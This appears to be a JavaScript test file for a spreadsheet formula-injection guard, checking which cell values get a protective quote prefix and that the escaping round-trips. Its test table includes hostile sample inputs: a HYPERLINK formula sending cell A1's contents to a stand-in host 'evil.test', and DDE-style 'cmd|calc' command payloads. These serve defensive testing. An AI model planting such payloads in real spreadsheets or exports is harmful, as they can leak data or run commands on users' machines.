import fc from 'fast-check';
import { guarded, unguarded } from './formula-guard.js';

describe('the formula guard', () => {
  it.each([
    ['=HYPERLINK("http://evil.test?"&A1,"pay")', true],
    ['+1+cmd|calc', true],
    ['-2+3', true],
    ['@SUM(A1)', true],
    ['\t=1', true],
    ['|calc', true],
    ['-12.50', false],
    ['+7', false],
    ['Pipe 1/2"', false],
    ['a=b', false],
    ['', false],
  ])('%j is disarmed: %s', (text, isDisarmed) => {
    expect(guarded(text)).toBe(isDisarmed ? `'${text}` : text);
  });

  it('is undone by reading', () => {
    const texts = fc.oneof(
      fc.string(),
      fc.string().map((text) => `=${text}`),
      fc.string().map((text) => `-${text}`),
    );
    fc.assert(
      fc.property(texts, (text) => {
        fc.pre(!/^'[=+\-@\t\r\n|%]/.test(text));
        expect(unguarded(guarded(text))).toBe(text);
      }),
    );
  });
});
